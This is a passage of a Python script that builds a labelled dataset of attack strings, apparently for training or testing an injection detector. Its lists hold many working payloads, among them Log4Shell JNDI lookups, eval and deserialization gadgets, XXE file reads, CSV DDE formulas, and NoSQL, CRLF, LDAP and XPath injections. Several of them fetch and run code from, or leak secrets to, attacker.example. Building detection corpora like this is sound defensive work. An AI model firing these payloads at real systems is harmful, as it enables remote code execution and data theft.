    ("spel", "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl", "${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('touch /tmp/p'))}"),
    ("el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/Basic/Command/id}"),
    ("log4shell", "Mill House ${jndi:rmi://203.0.113.15:1099/obj}"),
    ("log4shell-lower", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.example/q}"),
    ("log4shell-env-default", "${j${env:NOPE:-n}di:ldaps://198.51.100.3/z}"),
    ("log4shell-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example/x}"),
    ("log4shell-upper", "${${upper:j}ndi:${upper:l}dap://attacker.example/u}"),
    ("log4shell-date", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/d}"),
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval", "142*0+__import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("python-eval", "eval(compile('import os;os.system(\"curl attacker.example|sh\")','x','exec'))"),
    ("node-eval", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("node-eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("node-eval", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("php-code", "<?php system($_GET['c']); ?>"),
    ("php-eval-breakout", "\".passthru('cat /etc/passwd').\""),
    ("php-eval-breakout", "1);}system('id');/*"),
    ("ruby-interpolation", "#{IO.popen('id').read}"),
    ("ruby-eval", "Kernel.exec('curl attacker.example/rb|sh')"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("prototype-pollution-query", "__proto__[isAdmin]=true"),
    ("prototype-pollution-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("prototype-pollution-gadget", "{\"crew\":\"Tom\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("prototype-pollution-dot", "__proto__.polluted=1"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"View quote\")"),
    ("csv-dde", "=cmd|'/c powershell -w hidden iwr attacker.example/c.ps1|iex'!A1"),
    ("csv-dde-at", "@SUM(1+9)*cmd|' /C curl attacker.example'!A0"),
    ("csv-dde-minus", "-2+3+cmd|' /C mshta http://203.0.113.30/x.hta'!A0"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?x=\",A2),\"//a\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))"),
    ("csv-formula-in-row", "J-2401,Rose Cottage,2025-06-02,,Tom,=HYPERLINK(\"http://attacker.example/inv\",\"Invoice\"),40"),
    ("csv-formula-leading-tab", "\t=IMAGE(\"https://attacker.example/t.png?\"&A1)"),
    ("csv-dde-libreoffice", "J-2402;Mill House;=DDE(\"soffice\";\"cmd /c calc\";\"x\")"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE job [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><job><site>&x;</site></job>"),
    ("xxe-oob-dtd", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><quote>1</quote>"),
    ("xxe-ssrf", "<!DOCTYPE order [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><qty>&m;</qty></order>"),
    ("xxe-php-filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><review>&s;</review>"),
    ("xxe-entity-expansion", "<!DOCTYPE b [<!ENTITY a \"reed\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><n>&e;&e;&e;</n>"),
    ("xinclude", "<j xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></j>"),
    ("xxe-svg", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("xxe-parameter-entity", "<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % w \"<!ENTITY &#x25; s SYSTEM 'http://attacker.example/?%f;'>\">%w;%s;]><x/>"),
    ("java-deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA="),
    ("php-object-injection", "O:8:\"JobSheet\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-object-injection", "a:1:{i:0;O:15:\"Monolog\\Handler\":2:{s:6:\"writer\";s:6:\"system\";s:4:\"data\";s:2:\"id\";}}"),
    ("python-pickle", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("python-pickle-base64", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("yaml-python-object", "!!python/object/apply:os.system ['curl attacker.example/y | sh']"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("dotnet-json-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.77:1099/e\",\"autoCommit\":true}"),
    ("node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("ssti-jinja2-in-note", "Consent note: {{ ''.__class__.__base__.__subclasses__() }}"),
]

NOSQLI = [
    ("mongo-operator", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
    ("mongo-operator-query", "password[$ne]=x"),
    ("mongo-regex", "{\"site\":{\"$regex\":\".*\"}}"),
    ("mongo-regex-query", "email[$regex]=^a.*&password[$gt]="),
    ("mongo-where-sleep", "{\"$where\":\"sleep(5000) || true\"}"),
    ("mongo-where-breakout", "Ivy'; while(true){}; var x='"),
    ("mongo-gt", "{\"total\":{\"$gt\":\"\"}}"),
    ("mongo-exists", "{\"crew\":{\"$in\":[\"Tom\",\"admin\",\"root\"]},\"pin\":{\"$exists\":false}}"),
    ("mongo-nin-query", "status[$nin][]=cancelled&owner[$ne]=me"),
    ("mongo-function", "{\"$expr\":{\"$function\":{\"body\":\"function(){return sleep(4000)||true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("mongo-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}]"),
    ("mongo-or", "{\"$or\":[{\"quote_ref\":\"Q-1042\"},{\"_id\":{\"$exists\":true}}]}"),
    ("mongo-where-js", "this.password.match(/^p.*/) && this.username=='admin'"),
    ("mongo-gte", "{\"ref\": \"Q-1042\", \"customer_id\": {\"$gte\": 0}}"),
    ("mongo-regex-blind", "{\"api_key\":{\"$regex\":\"^sk_\"}}"),
    ("couchdb-selector", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"email\",\"password\"]}"),
    ("mongo-exists-query", "token[$exists]=true"),
    ("mongo-type", "{\"pin\":{\"$type\":2}}"),
    ("mongo-where-busyloop", "1; var d=new Date(); do{c=new Date();}while(c-d<5000);"),
    ("mongo-where", "{\"$where\":\"this.iban && this.iban.charAt(0)=='G'\"}"),
    ("mongo-regex-options-query", "site[$regex]=.*&site[$options]=si"),
    ("mongo-elemmatch", "{\"jobs\":{\"$elemMatch\":{\"price\":{\"$lt\":999999}}},\"role\":{\"$ne\":\"customer\"}}"),
    ("json-concat-breakout", "Mill House\", \"$where\": \"1==1"),
    ("mongo-set-update", "{\"$set\":{\"role\":\"admin\",\"verified\":true}}"),
    ("mongo-rename-update", "{\"$rename\":{\"password\":\"bio\"}}"),
    ("elasticsearch-script", "{\"query\":{\"script\":{\"script\":\"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("mongo-regex-redos", "{\"review\":{\"$regex\":\"(a+)+$\"}}"),
]

CRLF = [
    ("log-forging", "Ivy Cottage\n2025-05-01 09:12:44 INFO admin login succeeded user=admin ip=10.0.0.2"),
    ("log-forging", "J-2291\r\n[WARN] payment override approved by manager"),
    ("log-forging-encoded", "Q-1042%0d%0a2025-05-02T10:00:00Z AUDIT quote Q-1042 total changed to 0.00 by admin"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker_fixed_value; Path=/"),
    ("header-injection-encoded", "/jobs/2291%0d%0aSet-Cookie:%20admin=1"),
    ("response-splitting", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("redirect-header-injection", "/quotes%0d%0aLocation:%20https://attacker.example/login"),
    ("mail-header-injection", "customer@example.com\r\nBcc: list@attacker.example"),
    ("mail-header-injection", "Quote request\nCc: spam1@attacker.example, spam2@attacker.example\nX-Priority: 1"),
    ("mail-header-injection-encoded", "mrs.oneill@example.com%0ABcc:%20harvest@attacker.example"),
    ("mail-body-injection", "Re: survey\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your deposit here</a>"),
    ("smtp-injection", "Tom\r\n.\r\nMAIL FROM:<ceo@thatch.local>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: urgent invoice\r\n\r\npay to new account\r\n."),
    ("csv-row-injection", "Rose Cottage\"\nJ-9999,Fake Job,2025-01-01,2025-01-02,Tom,reed,1"),
    ("csv-row-injection", "great roof\r\n=HYPERLINK(\"https://attacker.example/\",\"click\"),,,"),
    ("csv-row-injection", "notes\",\"\"\n\"J-0000\",\"=cmd|'/c calc'!A0\""),
    ("unicode-crlf", "en-GB\u560d\u560aSet-Cookie: x=1"),
    ("log-forging", "weather delay\n\n--- END OF LOG ---\n2025-06-01 00:00:01 INFO logs rotated, previous entries deleted"),
    ("header-injection", "utf-8\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /admin"),
    ("response-splitting", "ok\r\n\r\n<html><body>Your session expired. <a href=https://attacker.example/>Log in</a></body></html>"),
    ("double-encoded-crlf", "/survey%250d%250aSet-Cookie:%2520sid=fixated"),
    ("lf-only-encoded", "Mill House%0aX-Injected: yes"),
    ("cr-only-encoded", "Mill House%0dRefresh: 0; url=https://attacker.example/"),
    ("log-forging-json", "delay\",\"level\":\"INFO\",\"msg\":\"user admin granted role superuser\",\"x\":\""),
    ("mail-header-injection", "Quote Q-1042\nTo: everyone@attacker.example"),
    ("syslog-forging", "rain all day\r\n<13>Jun  1 09:00:00 yard-server sshd[1234]: Accepted password for root from 203.0.113.50"),
    ("header-injection-filename", "quote.pdf\"\r\nContent-Disposition: attachment; filename=\"invoice.html"),
    ("csv-row-injection", "Tom\n\"J-2405\",\"Hall Barn\",\"=WEBSERVICE(\"\"https://attacker.example/\"\"&A1)\""),
    ("mail-header-injection", "Tom Price <tom@example.com>\nReply-To: pay@attacker.example"),
    ("request-smuggling-crlf", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("log-forging-encoded", "Jake%0A2025-06-03 16:00:00 INFO timesheet approved hours=80 user=jake"),
]

LDAP_XPATH = [
    ("ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("ldap-auth-bypass", "tom)(|(password=*)"),
    ("ldap-auth-bypass", "admin)(&)"),
    ("ldap-attribute-probe", "*)(userPassword=*"),
    ("ldap-blind", "tom*)(mail=a*"),
    ("ldap-or", "jake)(|(objectClass=*)"),
    ("ldap-encoded", "%2a%29%28%7c%28cn%3d%2a"),
    ("ldap-null", "tom)%00"),
    ("ldap-group-probe", "*)(memberOf=cn=admins,ou=groups,dc=thatch,dc=local"),
    ("ldap-description-leak", "*)(|(description=*pass*)"),
    ("xpath-tautology", "x' or count(/*)=1 or 'x'='y"),
    ("xpath-blind", "' or substring(//user[1]/password,1,1)='s' or '"),
    ("xpath-union", "Q-1042'] | //user/* | //quote[ref='x"),
    ("xpath-name-probe", "' or name(/*[1])='jobs' or '"),
    ("xpath-string-length", "Tom' and string-length(//crew[name='Tom']/pin)=4 and '1'='1"),
    ("xpath-doc", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-node-extraction", "')] | //* | //*[('"),
    ("xpath-contains", "x' or count(//user[contains(password,'a')])>0 or 'z'='q"),
    ("xpath-position", "reed' or position()=1 or '"),
    ("ldap-dn-injection", "Tom Price,ou=staff,dc=thatch,dc=local)(|(cn=*"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def prefixed(rng, prefixes, pool, n):
    combos = [(p, c, v) for p in prefixes for (c, v) in pool]
    rng.shuffle(combos)
    out = []
    used_payloads = {}
    for p, c, v in combos:
        # spread payloads: no payload used more than twice
        if used_payloads.get(v, 0) >= 2:
            continue
        used_payloads[v] = used_payloads.get(v, 0) + 1
        out.append(("prefixed-" + c, p + v, False))
        if len(out) == n:
            break
    assert len(out) == n
    return out


def build():
    rng = random.Random(SEED)
    cats = []
    lit = lambda rows: [(c, v, True) for c, v in rows]
    cats.append(("sqli", lit(SQLI) + [(c + "+urlencode", urlencode_all(v), False) for c, v in SQLI_URLENC_POOL]))
    cats.append(("xss", lit(XSS) + prefixed(rng, XSS_PREFIXES, XSS_POOL, 10)))
    cats.append(("cmdi", lit(CMDI) + prefixed(rng, CMDI_PREFIXES, CMDI_POOL, 8)))
    cats.append(("traversal", lit(TRAVERSAL) + [(c + "+urlencode", urlencode_all(v), False) for c, v in TRAVERSAL_URLENC_POOL]))
    cats.append(("ssrf", lit(SSRF) + prefixed(rng, SSRF_PREFIXES, SSRF_POOL, 5)))
    cats.append(("code", lit(CODE)))
    cats.append(("nosqli", lit(NOSQLI)))
    cats.append(("crlf", lit(CRLF)))
    cats.append(("ldap-xpath", lit(LDAP_XPATH)))
    return cats


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    cats = build()
    seen = set()
    rows = []
    for cat, items in cats:
        for cls, v, is_lit in items:
            assert 1 <= len(v) <= 2000, v
            assert v not in seen, ("duplicate", v)
            assert v not in benign, ("equals benign", v)
            for ch in v:
                o = ord(ch)
                assert not ((o < 32 and ch not in "\n\r\t") or o == 127), ("control char", v)
            seen.add(v)
            rows.append((cat, cls, v, is_lit))
    out = os.path.join(here, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _) in enumerate(rows, 1):
            obj = {"id": "haiz-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    print("wrote", len(rows), "rows to", out)
    total_lit = sum(1 for r in rows if r[3])
    for cat, items in cats:
        n = len(items)
        nl = sum(1 for it in items if it[2])
        print("  %-11s n=%d literals=%d" % (cat, n, nl))
    print("  literals total %d/%d (%.1f%%)" % (total_lit, len(rows), 100.0 * total_lit / len(rows)))


if __name__ == "__main__":
    main()
